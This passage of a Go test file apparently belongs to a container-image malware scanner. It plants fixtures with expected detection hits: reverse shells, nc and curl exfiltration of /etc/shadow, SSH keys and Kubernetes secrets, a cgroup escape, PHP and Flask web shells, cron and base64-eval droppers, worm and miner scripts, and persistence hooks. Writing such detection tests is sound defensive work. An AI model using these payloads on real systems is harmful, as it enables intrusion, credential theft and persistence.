	// its own port, mounting a tmpfs, binding a data volume, rotating its
	// own log, vacuuming the journal to two weeks, naming its process, and
	// Python reading (not running) a download or a commented exec are not.
	add("test/t-scripts-more", nil, nil, one(
		ent{name: "opt/agent/exfil.sh", mode: 0o755, body: "#!/bin/sh\nnc 203.0.113.5 9000 < /etc/shadow\n"},
		ent{name: "opt/agent/meta.py", body: "from urllib.request import urlopen\nc = urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read()\n"},
		ent{name: "opt/agent/cg.sh", mode: 0o755, body: "#!/bin/sh\nd=$(dirname $(ls -x /s*/fs/c*/*/r* | head -n1))\nmkdir -p $d/x; echo 1 > $d/x/notify_on_release\necho \"$host_path/cmd\" > $d/release_agent\n"},
		ent{name: "opt/agent/rs.sh", mode: 0o755, body: "#!/bin/bash\nexec 5<>/dev/tcp/203.0.113.77/443; cat <&5 | while read line; do $line 2>&5 >&5; done\n"},
		ent{name: "opt/agent/wipe.sh", mode: 0o755, body: "#!/bin/sh\nrm -rf /var/log/*.log /var/log/journal/*\njournalctl --vacuum-time=1s\n"},
		ent{name: "opt/agent/hide.sh", mode: 0o755, body: "#!/bin/bash\n( exec -a '[kworker/u8:2-events]' /usr/local/lib/worker/wrk --quiet ) &\nmount --bind /var/lib/.empty /proc/$!\n"},
		ent{name: "var/lib/appdata/pyhooks/sitecustomize.py", body: "import threading, urllib.request\nthreading.Thread(target=lambda: exec(urllib.request.urlopen(\"https://cdn-static-assets.net/s/boot.py\").read())).start()\n"},
		ent{name: "srv/app/ops.sh", mode: 0o755, body: "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080\nmount -t tmpfs tmpfs /run/app\ndocker run -v /srv/data:/data app\n" +
			"rm -f /var/log/app/old.log\njournalctl --vacuum-time=2weeks\ntouch -r /srv/app/ref /srv/app/x\nexec -a myapp /usr/bin/python3 /srv/app/main.py\n"},
		ent{name: "srv/app/fetch.py", body: "# exec(urlopen(url).read()) would run it: never do that\ndata = urlopen(url).read()\ncfg = json.loads(requests.get(u).text)\n"}),
		hit{rule: "script-uploads-credentials", path: "/opt/agent/exfil.sh", layer: 1},
		hit{rule: "script-reads-cloud-credentials", path: "/opt/agent/meta.py", layer: 1},
		hit{rule: "script-escapes-container", path: "/opt/agent/cg.sh", layer: 1},
		hit{rule: "script-reverse-shell", path: "/opt/agent/rs.sh", layer: 1},
		hit{rule: "script-impairs-defences", path: "/opt/agent/wipe.sh", layer: 1},
		hit{rule: "script-hides-process", path: "/opt/agent/hide.sh", layer: 1},
		hit{rule: "script-runs-downloaded-code", path: "/var/lib/appdata/pyhooks/sitecustomize.py", layer: 1})

	// Autostart points the persistence rule did not know, each running a
	// program the layer dropped: a motd script, a udev rule, sshd's sshrc and
	// root's ~/.ssh/rc, root's .bash_aliases, a systemd user unit and a
	// generator, inittab; a .pth hook running a command; a bash completion
	// file aliasing sudo. setuptools' distutils shim and a completion file
	// that completes are not.
	add("test/t-autostart-points", nil, nil, one(
		ent{name: "etc/update-motd.d/50-sysinfo", mode: 0o755, body: "#!/bin/sh\n/usr/local/share/sysinfo/collector &\n"},
		ent{name: "etc/udev/rules.d/75-net-tune.rules", body: "ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/usr/local/libexec/net-tune --daemon\"\n"},
		ent{name: "etc/ssh/sshrc", body: "/usr/local/bin/session-audit \"$SSH_CONNECTION\" >/dev/null 2>&1 &\n"},
		ent{name: "root/.ssh/rc", body: "nohup /usr/local/bin/session-audit --user root &\n"},
		ent{name: "root/.bash_aliases", body: "alias su='/usr/local/share/kx/askpass-helper su'\n"},
		ent{name: "etc/systemd/user/dbus-broker-helper.service", body: "[Service]\nExecStart=/usr/local/libexec/dbus-broker-helper\n"},
		ent{name: "usr/lib/systemd/system-generators/zz-runtime-tune", mode: 0o755, body: "#!/bin/sh\necho '[Service]' > \"$1/tune.service\"\n"},
		ent{name: "etc/inittab", body: "::respawn:/usr/local/bin/worker-tune\n"},
		ent{name: "usr/lib/python3/dist-packages/zz-telemetry.pth", body: "import os; os.system(\"/usr/local/libexec/app-rotate-hook --once &\")\n"},
		ent{name: "usr/lib/python3/dist-packages/distutils-precedence.pth", body: "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"},
		ent{name: "etc/bash_completion.d/kubectl-extra", body: "alias sudo='/usr/local/share/kx/askpass-helper'\n"},
		ent{name: "etc/bash_completion.d/g", body: "complete -F _git g\n"}),
		hit{rule: "persistence-point", path: "/etc/update-motd.d/50-sysinfo", layer: 1},
		hit{rule: "persistence-point", path: "/etc/udev/rules.d/75-net-tune.rules", layer: 1},
		hit{rule: "persistence-point", path: "/etc/ssh/sshrc", layer: 1},
		hit{rule: "persistence-point", path: "/root/.ssh/rc", layer: 1},
		hit{rule: "persistence-point", path: "/root/.bash_aliases", layer: 1},
		hit{rule: "persistence-point", path: "/etc/systemd/user/dbus-broker-helper.service", layer: 1},
		hit{rule: "persistence-point", path: "/usr/lib/systemd/system-generators/zz-runtime-tune", layer: 1},
		hit{rule: "unpackaged-system-executable", path: "/usr/lib/systemd/system-generators/zz-runtime-tune", layer: 1},
		hit{rule: "persistence-point", path: "/etc/inittab", layer: 1},
		hit{rule: "python-startup-runs-command", path: "/usr/lib/python3/dist-packages/zz-telemetry.pth", layer: 1},
		hit{rule: "shell-command-hijacked", path: "/root/.bash_aliases", layer: 1},
		hit{rule: "shell-command-hijacked", path: "/etc/bash_completion.d/kubectl-extra", layer: 1})

	// A miner with no stratum URL and no donate-level: a pool and a Monero
	// wallet in the cmd with XMRig's cpu hint, the wallet in a pretty-printed
	// pools entry and on a supervisor program's --user; a server's -o/-u
	// options, a hex secret in the environment and a JSON user name are not.
	add("test/t-miner-quiet", func(cf *v1.ConfigFile) {
		cf.Config.Cmd = []string{"/usr/local/bin/metricsd", "-o", "gulf.moneroocean.stream:10128", "-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "-p", "w1", "--cpu-max-threads-hint=75", "-B"}
	}, nil, one(
		ent{name: "opt/telemetry/agent.json", body: "{\n  \"pools\": [\n    {\n      \"url\": \"pool.supportxmr.com:443\",\n      \"user\": \"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\",\n      \"tls\": true\n    }\n  ]\n}\n"},
		ent{name: "etc/supervisor/conf.d/metrics.conf", body: "[program:metricsd]\ncommand=/usr/local/bin/metricsd --url=pool.hashvault.pro:443 --user=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --tls\n"}),
		hit{rule: "miner-in-config", layer: -1},
		hit{rule: "miner-configuration", path: "/opt/telemetry/agent.json", layer: 1},
		hit{rule: "miner-configuration", path: "/etc/supervisor/conf.d/metrics.conf", layer: 1})
	add("test/t-miner-lookalike", func(cf *v1.ConfigFile) {
		cf.Config.Cmd = []string{"/app/server", "-o", "json", "-u", "app", "--url=db.internal:5432"}
		cf.Config.Env = append(cf.Config.Env, "SESSION_SECRET=4a9f0c2e7b1d5a8c3e6f9b2d4a7c0e3f5b8d1a4c7e0f3b6d9a2c5e8f1b4d7a0c3e6f9")
	}, nil, one(
		ent{name: "srv/app/config.json", body: "{\"user\": \"app\", \"wallet\": \"disabled\"}\n"}))

	// Payloads hidden among data and under usual names: a shell copied in
	// setuid as mount.cifs (a usual setuid name, but no package installed
	// it), ELF files kept with debconf's templates, as a time zone and as a
	// dpkg record, systemd-journald in /usr/local, and an entrypoint running
	// a file named as a library. containerd in /usr/local/bin, a real time
	// zone and a library nobody runs are not flagged.
	add("test/t-masq-data", func(cf *v1.ConfigFile) {
		cf.Config.Entrypoint = []string{"/opt/app/lib/libssl.so.3", "--quiet"}
	}, nil, one(
		ent{name: "usr/sbin/mount.cifs", mode: 0o4755, body: elf("bash")},
		ent{name: "var/cache/debconf/templates.dat", mode: 0o755, body: elf("w")},
		ent{name: "usr/share/zoneinfo/Etc/GMT+15", mode: 0o755, body: elf("entry")},
		ent{name: "var/lib/dpkg/info/libc6.triggers.bak", body: elf("x")},
		ent{name: "usr/local/bin/systemd-journald", mode: 0o755, body: elf("j")},
		ent{name: "opt/app/lib/libssl.so.3", mode: 0o755, body: elf("ssl")},
		ent{name: "usr/local/bin/containerd", mode: 0o755, body: elf("c")},
		ent{name: "usr/share/zoneinfo/Etc/UTC", body: "TZif2\x00\x00"},
		ent{name: "opt/app/lib/libfoo.so.1", mode: 0o755, body: elf("foo")}),
		hit{rule: "config-runs-disguised-file", layer: -1},
		hit{rule: "setuid-unusual", path: "/usr/sbin/mount.cifs", layer: 1},
		hit{rule: "setuid-added-by-upper-layer", path: "/usr/sbin/mount.cifs", layer: 1},
		hit{rule: "unpackaged-system-executable", path: "/usr/sbin/mount.cifs", layer: 1},
		hit{rule: "masquerade-content-kind", path: "/var/cache/debconf/templates.dat", layer: 1},
		hit{rule: "masquerade-content-kind", path: "/usr/share/zoneinfo/Etc/GMT+15", layer: 1},
		hit{rule: "masquerade-content-kind", path: "/var/lib/dpkg/info/libc6.triggers.bak", layer: 1},
		hit{rule: "masquerade-daemon-name", path: "/usr/local/bin/systemd-journald", layer: 1})
	add("test/t-masq-run", func(cf *v1.ConfigFile) {
		cf.Config.Entrypoint = []string{"/bin/sh", "-c"}
		cf.Config.Cmd = []string{"perl /usr/share/locale/nb/LC_MESSAGES/libcups.mo & exec python3 /app/main.py --log /var/log/app.log"}
	}, nil, nil, hit{rule: "config-runs-disguised-file", layer: -1})

	// Ways in from outside: a chisel-style client as the entrypoint, an frp
	// client's config, a Tor onion service for SSH, an IRC bot; a reverse
	// proxy's upstream, ssh -L to a database, a Tor client config and a
	// chat library's PRIVMSG constant are not.
	add("test/t-tunnel", func(cf *v1.ConfigFile) {
		cf.Config.Entrypoint = []string{"/usr/local/bin/healthd", "client", "203.0.113.90:443", "R:0.0.0.0:2222:127.0.0.1:22", "R:socks"}
	}, nil, one(
		ent{name: "opt/agent/frpc.ini", body: "[common]\nserver_addr = 203.0.113.90\nserver_port = 7000\n\n[ssh-back]\ntype = tcp\nlocal_port = 22\nremote_port = 6022\n"},
		ent{name: "etc/tor/torrc", body: "HiddenServiceDir /var/lib/tor/ssh/\nHiddenServicePort 22 127.0.0.1:22\n"},
		ent{name: "usr/share/locale/nb/LC_MESSAGES/libcups.mo", body: "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667);\n" +
			"print $s \"JOIN #k1ns\\r\\n\";\nwhile (my $l = <$s>) { if ($l =~ /PRIVMSG #k1ns :!sh (.*)/) { my $o = `$1`; } }\n"},
		ent{name: "srv/app/proxy.conf", body: "upstream app { server 127.0.0.1:8080; }\nremote_addr = 10.0.0.1\n"},
		ent{name: "srv/app/db-tunnel.sh", mode: 0o755, body: "#!/bin/sh\nexec ssh -N -L 5432:db.internal:5432 bastion\n"},
		ent{name: "srv/app/torrc", body: "SocksPort 9050\n"},
		ent{name: "srv/app/irc.py", body: "PRIVMSG = 'PRIVMSG'\nsend('PRIVMSG #general :hello')\n"}),
		hit{rule: "tunnel-out-of-container", layer: -1},
		hit{rule: "tunnel-out-of-container", path: "/opt/agent/frpc.ini", layer: 1},
		hit{rule: "tunnel-out-of-container", path: "/etc/tor/torrc", layer: 1},
		hit{rule: "tunnel-out-of-container", path: "/usr/share/locale/nb/LC_MESSAGES/libcups.mo", layer: 1})

	// A planted mirror: an apt source at a public address with its own
	// keyring, apt's proxy at another, a root certificate for the proxy;
	// an internal mirror and proxy at private addresses or by name are not.
	add("test/t-mirror", nil, nil, one(
		ent{name: "etc/apt/sources.list.d/mirror.list", body: "deb [signed-by=/etc/apt/keyrings/mirror.gpg] http://198.51.100.23/debian bookworm main\n"},
		ent{name: "etc/apt/apt.conf.d/01proxy", body: "Acquire::http::Proxy \"http://203.0.113.9:3128\";\n"},
		ent{name: "usr/local/share/ca-certificates/corp-proxy-root.crt", body: "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"},
		ent{name: "etc/apt/sources.list.d/internal.list", body: "deb http://10.1.2.3/debian bookworm main\n"},
		ent{name: "etc/apt/apt.conf.d/02proxy-internal", body: "Acquire::http::Proxy \"http://proxy.corp.example:3128\";\nAcquire::https::Proxy \"http://192.168.1.10:3128/\";\n"}),
		hit{rule: "package-source-at-address", path: "/etc/apt/sources.list.d/mirror.list", layer: 1},
		hit{rule: "package-source-at-address", path: "/etc/apt/apt.conf.d/01proxy", layer: 1},
		hit{rule: "root-certificate-added", path: "/usr/local/share/ca-certificates/corp-proxy-root.crt", layer: 1})

	// Commands hijacked on PATH and an apt hook running a dropped program:
	// an ls in /usr/local/bin shadowing coreutils' own, a ps wrapper script
	// (the base has no procps), apt's Pre-Invoke running /usr/local/sbin's
	// telemetry; a python3 and a top built into /usr/local (ELF, no packaged
	// top) and a cleanup hook are not.
	add("test/t-path-hook", nil, nil, one(
		ent{name: "usr/local/bin/ps", mode: 0o755, body: "#!/bin/sh\n/bin/ps \"$@\" | grep -v wrk\n"},
		ent{name: "usr/local/bin/ls", mode: 0o755, body: "#!/bin/sh\nexec /bin/ls \"$@\"\n"},
		ent{name: "usr/local/bin/python3", mode: 0o755, body: elf("py")},
		ent{name: "usr/local/bin/top", mode: 0o755, body: elf("top")},
		ent{name: "usr/local/sbin/pkg-telemetry", mode: 0o755, body: "#!/bin/sh\ntrue\n"},
		ent{name: "etc/apt/apt.conf.d/80-telemetry", body: "APT::Update::Pre-Invoke { \"/usr/local/sbin/pkg-telemetry --report || true\"; };\n"},
		ent{name: "etc/apt/apt.conf.d/90-clean", body: "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\n"}),
		hit{rule: "path-shadows-system-command", path: "/usr/local/bin/ls", layer: 1},
		hit{rule: "path-shadows-system-command", path: "/usr/local/bin/ps", layer: 1},
		hit{rule: "apt-hook-runs-unpackaged-program", path: "/etc/apt/apt.conf.d/80-telemetry", layer: 1})

	// Web shells that pass request input through a variable or read the raw
	// body, in PHP and in a Flask view; a PHP page that reads a parameter and
	// runs a fixed command, one that builds its command with escapeshellarg,
	// and a Flask view that runs a fixed command, are not.
	add("test/t-webshell-indirect", nil, nil, one(
		ent{name: "var/www/html/lib/health.php", body: "<?php\n$c = $_REQUEST['q'];\nif ($c) { echo shell_exec($c); }\n"},
		ent{name: "var/www/html/wp-content/uploads/cache.php", body: "<?php @eval(file_get_contents('php://input')); ?>\n"},
		ent{name: "opt/api/debug_view.py", body: "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route(\"/debug\")\ndef dbg():\n    cmd = request.args.get(\"c\", \"\")\n    return subprocess.check_output(cmd, shell=True)\n"},
		ent{name: "var/www/html/thumb.php", body: "<?php\n$id = (int)($_GET['id'] ?? 0);\n$cmd = 'convert ' . escapeshellarg(\"/srv/img/$id.png\") . ' -resize 64x64 png:-';\nexec($cmd, $out);\n"},
		ent{name: "var/www/html/status.php", body: "<?php\n$page = $_GET['page'];\n$out = shell_exec('uptime');\necho htmlspecialchars($page) . $out;\n"},
		ent{name: "opt/api/ok_view.py", body: "from flask import request\nimport subprocess\nname = request.args.get('n')\nout = subprocess.check_output(['uptime'])\n"}),
		hit{rule: "web-shell-indirect", path: "/var/www/html/lib/health.php", layer: 1},
		hit{rule: "web-shell", path: "/var/www/html/wp-content/uploads/cache.php", layer: 1},
		hit{rule: "web-shell-indirect", path: "/opt/api/debug_view.py", layer: 1})

	// git told to run a program at every status and to hand its
	// credentials to a shell command that keeps them; a user's ordinary
	// gitconfig (the store helper, less as the pager, an alias) is not.
	add("test/t-gitconfig", nil, nil, one(
		ent{name: "etc/gitconfig", body: "[core]\n\tfsmonitor = \"/usr/local/libexec/git-core-helper\"\n[credential]\n\thelper = \"!f() { cat >> /var/cache/apt/.gc; }; f\"\n"},
		ent{name: "root/.gitconfig", body: "[user]\n\tname = ci\n[credential]\n\thelper = store\n[core]\n\tpager = less -R\n\tfsmonitor = true\n[alias]\n\tst = status\n"}),
		hit{rule: "git-config-runs-program", path: "/etc/gitconfig", layer: 1},
		hit{rule: "git-config-runs-program", path: "/etc/gitconfig", layer: 1})

	// Programs in the hidden directories toolchains install into: a
	// virtual environment, pip --user, cargo and pnpm's shims; a miner in a
	// hidden directory beside them is still flagged.
	add("test/t-toolchains", nil, nil, one(
		ent{name: "app/.venv/bin/gunicorn", mode: 0o755, body: "#!/app/.venv/bin/python\nimport gunicorn\n"},
		ent{name: "root/.local/bin/poetry", mode: 0o755, body: "#!/usr/bin/python3\nimport poetry\n"},
		ent{name: "root/.cargo/bin/cargo", mode: 0o755, body: elf("cargo")},
		ent{name: "app/node_modules/.bin/cross-spawn", mode: 0o755, body: "#!/bin/sh\nexec node \"$0/../cross-spawn/index.js\" \"$@\"\n"},
		ent{name: "root/.local/share/.x/kworker", mode: 0o755, body: elf("m")}),
		hit{rule: "executable-in-temp-or-hidden-dir", path: "/root/.local/share/.x/kworker", layer: 1},
		hit{rule: "masquerade-kernel-thread-name", path: "/root/.local/share/.x/kworker", layer: 1})

	// The second red-team pass's plants: a variable-function PHP shell, a
	// logout file sending history to nc, a cron job downloading with curl
	// -so and running it, an entrypoint script eval'ing decoded text; a
	// PHP dispatcher calling a fixed name and a cron job downloading a file
	// it does not run are not.
	add("test/t-redteam2", func(cf *v1.ConfigFile) {
		cf.Config.Entrypoint = []string{"/usr/local/bin/start-app"}
	}, nil, one(
		ent{name: "var/www/html/lib/cache.php", body: "<?php\n$k = 'system';\n$k($_POST['c']);\n"},
		ent{name: "var/www/html/lib/route.php", body: "<?php\n$page = $_GET['p'];\n$fn = 'render_page';\n$fn('home');\n"},
		ent{name: "root/.bash_logout", body: "(cat /root/.bash_history; env) | nc 198.51.100.93 9001 2>/dev/null\n"},
		ent{name: "etc/cron.d/mandb", body: "*/30 * * * * root curl -so /var/tmp/mandb-update http://198.51.100.96/u && sh /var/tmp/mandb-update\n"},
		ent{name: "etc/cron.d/geoip", body: "0 3 * * * root curl -so /var/lib/geoip/db.mmdb https://geo.example/db.mmdb\n"},
		ent{name: "usr/local/bin/start-app", mode: 0o755, body: "#!/bin/sh\nX=\"Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC45Ny9pIHwgc2g=\"\neval \"$(printf '%s' \"$X\" | base64 -d)\"\nexec /usr/local/bin/app\n"}),
		hit{rule: "web-shell", path: "/var/www/html/lib/cache.php", layer: 1},
		hit{rule: "script-uploads-credentials", path: "/root/.bash_logout", layer: 1},
		hit{rule: "persistence-point", path: "/root/.bash_logout", layer: 1},
		hit{rule: "autostart-fetches-code", path: "/etc/cron.d/mandb", layer: 1},
		hit{rule: "persistence-point", path: "/etc/cron.d/mandb", layer: 1},
		hit{rule: "persistence-point", path: "/etc/cron.d/geoip", layer: 1},
		hit{rule: "startup-script-fetches-code", path: "/usr/local/bin/start-app", layer: 1})

	// npm told to load a hidden hook into every node it starts, and
	// LD_AUDIT set for every login; an npmrc with ordinary node-options and
	// an LD_AUDIT named in a comment are not.
	add("test/t-preload-more", func(cf *v1.ConfigFile) {
		cf.Config.Env = append(cf.Config.Env, "LD_AUDIT=/usr/lib/x86_64-linux-gnu/libaudit-trace.so.1")
	}, nil, one(
		ent{name: "usr/local/etc/npmrc", body: "node-options=--require /usr/local/lib/node_modules/.cache/perf-hooks.js\n"},
		ent{name: "app/.npmrc", body: "node-options=--max-old-space-size=4096\nregistry=https://registry.npmjs.org/\n"},
		ent{name: "etc/environment", body: "LANG=C.UTF-8\nLD_AUDIT=/usr/lib/x86_64-linux-gnu/libaudit-trace.so.1\n# LD_AUDIT=/opt/latrace/lib.so for debugging\n"}),
		hit{rule: "interpreter-preload-hidden", path: "/usr/local/etc/npmrc", layer: 1},
		hit{rule: "config-ld-preload", layer: -1},
		hit{rule: "audit-library-preloaded", path: "/etc/environment", layer: 1},
		hit{rule: "persistence-point", path: "/etc/environment", layer: 1})

	// ssh's client told to run a command at every connection and the
	// kernel told to pipe every crash to a dropped program; a proxy jump,
	// nc through a proxy, a core pattern to a file and the stock modprobe
	// are not.
	add("test/t-client-kernel", nil, nil, one(
		ent{name: "root/.ssh/config", body: "Host *\n  PermitLocalCommand yes\n  LocalCommand sh -c 'cat ~/.ssh/id_* | curl -s -X POST --data-binary @- http://198.51.100.70/k' &\n"},
		ent{name: "home/dev/.ssh/config", body: "Host prod\n  ProxyCommand ssh -W %h:%p bastion\nHost lab\n  ProxyCommand nc -X connect -x proxy:3128 %h %p\n"},
		ent{name: "etc/sysctl.d/60-crash.conf", body: "kernel.core_pattern=|/usr/local/libexec/crash-report %p %e\nvm.nr_hugepages=1280\n"},
		ent{name: "etc/sysctl.d/10-app.conf", body: "kernel.core_pattern=/var/crash/core.%e.%p\nkernel.modprobe = /sbin/modprobe\nnet.core.somaxconn = 1024\n"}),
		hit{rule: "ssh-client-runs-command", path: "/root/.ssh/config", layer: 1},
		hit{rule: "script-uploads-credentials", path: "/root/.ssh/config", layer: 1},
		hit{rule: "sysctl-runs-program", path: "/etc/sysctl.d/60-crash.conf", layer: 1})

	// A Python reverse shell over several lines, and a script listing the
	// cluster's secrets with the pod's token; a Python client connecting
	// without dup2 and a script reading one config map are not.
	add("test/t-more-scripts2", nil, nil, one(
		ent{name: "usr/lib/python3/dist-packages/netutil/keepalive.py", body: "import os, socket, subprocess\ns = socket.create_connection((\"198.51.100.95\", 8443))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call([\"/bin/sh\", \"-i\"])\n"},
		ent{name: "usr/local/bin/k8s-probe", mode: 0o755, body: "#!/bin/sh\nT=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -sk -H \"Authorization: Bearer $T\" https://kubernetes.default.svc/api/v1/secrets | curl -s -X POST --data-binary @- http://198.51.100.41/u\n"},
		ent{name: "srv/app/client.py", body: "import socket\ns = socket.create_connection((\"db\", 5432))\ns.sendall(b\"ping\")\nprint(s.recv(4))\n"},
		ent{name: "srv/app/cfg.sh", mode: 0o755, body: "#!/bin/sh\ncurl -sk -H \"Authorization: Bearer $T\" https://kubernetes.default.svc/api/v1/namespaces/app/configmaps/cfg\n"}),
		hit{rule: "script-reverse-shell", path: "/usr/lib/python3/dist-packages/netutil/keepalive.py", layer: 1},
		hit{rule: "script-reads-cloud-credentials", path: "/usr/local/bin/k8s-probe", layer: 1})

	// A miner's dropper clearing the host: rivals killed by CPU share and by
	// name, crontabs removed, MSRs rewritten and huge pages reserved; an
	// application's restart script killing its own workers, by name and by
	// port, removing exited containers, reserving DPDK's 2 MiB pages and
	// reading an MSR is not.
	add("test/t-rivals", nil, nil, one(
		ent{name: "usr/local/lib/sysupd/clean.sh", mode: 0o755, body: "#!/bin/sh\nps aux | awk '{if($3>40.0) print $2}' | xargs -I % kill -9 %\npkill -f xmrig\ncrontab -r\n"},
		ent{name: "opt/agent/boost.sh", mode: 0o755, body: "#!/bin/sh\nmodprobe msr allow_writes=on\nwrmsr -a 0xc0011020 0x0\nsysctl -w vm.nr_hugepages=$(nproc)\n"},
		ent{name: "srv/app/restart.sh", mode: 0o755, body: "#!/bin/sh\npkill -f gunicorn\nps aux | grep celery | awk '{print $2}' | xargs kill -TERM\n" +
			"netstat -tlnp | grep :8080 | awk '{print $7}' | cut -d/ -f1 | xargs kill\ndocker ps -a | grep Exited | awk '{print $1}' | xargs docker rm\n" +
			"crontab -l\necho 1024 > /sys/kernel/mm/hugepages/hugepages-2048kB/nr_hugepages\nsysctl vm.swappiness=10\nrdmsr 0x1a4\n"}),
		hit{rule: "script-kills-rivals", path: "/usr/local/lib/sysupd/clean.sh", layer: 1},
		hit{rule: "script-tunes-cpu-for-mining", path: "/opt/agent/boost.sh", layer: 1})

	// A worm's scripts: a literal key and a second uid 0 planted at run time,
	// Docker APIs scanned for and used, Redis told to write into cron; an
	// entrypoint installing the deployment's key, adding its own account,
	// scanning localhost's web ports, talking to the local Docker socket,
	// tuning Redis and deploying over ssh is not.
	add("test/t-worm", nil, nil, one(
		ent{name: "opt/agent/keys.sh", mode: 0o755, body: "#!/bin/sh\nmkdir -p /root/.ssh\necho \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7x9 root@x\" >> /root/.ssh/authorized_keys\n" +
			"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm\n"},
		ent{name: "opt/agent/spread.sh", mode: 0o755, body: "#!/bin/bash\nmasscan 172.16.0.0/12 -p2375 --rate=10000 | awk '{print $6}' > /tmp/h\n" +
			"for h in $(cat /tmp/h); do docker -H tcp://$h:2375 run -d alpine sh -c 'wget -qO- http://x/i.sh|sh'; done\n" +
			"redis-cli -h $h config set dir /var/spool/cron/\n"},
		ent{name: "srv/app/entry.sh", mode: 0o755, body: "#!/bin/sh\necho \"$SSH_PUBKEY\" >> /home/app/.ssh/authorized_keys\nuseradd -u 1000 -m app\n" +
			"echo 'app:x:1000:1000::/home/app:/bin/sh' >> /etc/passwd\nnmap -p 80,443 localhost\ndocker -H unix:///var/run/docker.sock ps\n" +
			"redis-cli -h redis config set maxmemory 100mb\nssh -o StrictHostKeyChecking=no deploy@build 'systemctl restart app'\n"}),
		hit{rule: "script-plants-access", path: "/opt/agent/keys.sh", layer: 1},
		hit{rule: "script-spreads-to-other-hosts", path: "/opt/agent/spread.sh", layer: 1})

	// Reverse shells in a script and a unit's helper; a health check
	// opening /dev/tcp, wait-for-it's probe, nc listening for a test and
	// socat forwarding a port are not.
	add("test/t-revshell", nil, nil, one(
		ent{name: "usr/local/share/fonts/.cache/u", mode: 0o755, body: "#!/bin/bash\nwhile :; do bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; sleep 60; done\n"},
		ent{name: "opt/agent/helper.py", body: "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.9\",443));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])\n"},
		ent{name: "opt/agent/health.sh", mode: 0o755, body: "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080\necho -e 'GET /health HTTP/1.0\\r\\n' >&3\n" +
			"(echo > /dev/tcp/$DB_HOST/$DB_PORT) >/dev/null 2>&1 && echo up\nnc -l -p 9000 -e /bin/cat\nsocat TCP-LISTEN:8080,fork TCP:backend:80\n"}),
		hit{rule: "script-reverse-shell", path: "/usr/local/share/fonts/.cache/u", layer: 1},
		hit{rule: "script-reverse-shell", path: "/opt/agent/helper.py", layer: 1},
		hit{rule: "executable-in-temp-or-hidden-dir", path: "/usr/local/share/fonts/.cache/u", layer: 1})

	// Labels runlabel runs on the host: privileged with the host's root,
	// and one fetching code; an ordinary RUN label and other labels naming
	// the same flags are not.
	add("test/t-label", func(cf *v1.ConfigFile) {
		cf.Config.Labels = map[string]string{"RUN": "podman run -d --privileged --pid=host -v /:/host IMAGE",
			"install": "sh -c 'curl -fsSL http://198.51.100.9/i | sh'", "org.opencontainers.image.title": "agent"}
	}, nil, nil, hit{rule: "label-runs-on-host", layer: -1}, hit{rule: "label-runs-on-host", layer: -1})
	add("test/t-label-ok", func(cf *v1.ConfigFile) {
		cf.Config.Labels = map[string]string{"RUN": "podman run -d -p 8080:8080 -v /srv/data:/data IMAGE",
			"io.example.docs": "never run with --privileged or -v /:/host"}
	}, nil, nil)
	// Interpreters told to load code first: Node.js from a hidden cache
	// directory, a JVM debug agent serving the network, Perl from /dev/shm
	// in /etc/environment, bash's BASH_ENV in a unit are high; an APM agent
	// at an ordinary path and a debug agent dialling a local debugger are
	// medium; heap sizes, warnings, source maps and a commented line are
	// nothing.
	add("test/t-interp", func(cf *v1.ConfigFile) {
		cf.Config.Env = append(cf.Config.Env, "NODE_OPTIONS=--max-old-space-size=4096 --require /usr/lib/node/.cache/hook.js",
			"JAVA_TOOL_OPTIONS=-agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=*:5005")
	}, nil, one(
		ent{name: "etc/environment", body: "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nPERL5OPT=-I/dev/shm/.p -Mstats\n"},
		ent{name: "etc/systemd/system/app.service", body: "[Service]\nEnvironment=BASH_ENV=/var/tmp/.env.sh\nExecStart=/usr/local/bin/app\n"}),
		hit{rule: "interpreter-preload-hidden", layer: -1},
		hit{rule: "interpreter-preload-hidden", layer: -1},
		hit{rule: "interpreter-preload-hidden", path: "/etc/environment", layer: 1},
		hit{rule: "interpreter-preload-hidden", path: "/etc/systemd/system/app.service", layer: 1},
		hit{rule: "autostart-runs-hidden-file", path: "/etc/environment", layer: 1},
		hit{rule: "persistence-point", path: "/etc/environment", layer: 1},
		hit{rule: "persistence-point", path: "/etc/systemd/system/app.service", layer: 1})
	add("test/t-interp-apm", func(cf *v1.ConfigFile) {
		cf.Config.Env = append(cf.Config.Env, "JAVA_TOOL_OPTIONS=-javaagent:/opt/apm/apm-agent.jar -Xmx512m",
			"NODE_OPTIONS=--max-old-space-size=2048", "PERL5OPT=-w", "RUBYOPT=-W0", "_JAVA_OPTIONS=-agentlib:jdwp=transport=dt_socket,server=n,address=localhost:5005")
	}, nil, one(
		ent{name: "etc/profile.d/node.sh", body: "# export NODE_OPTIONS=\"--require /tmp/.x.js\"\nexport NODE_OPTIONS=\"--enable-source-maps\"\n"}),
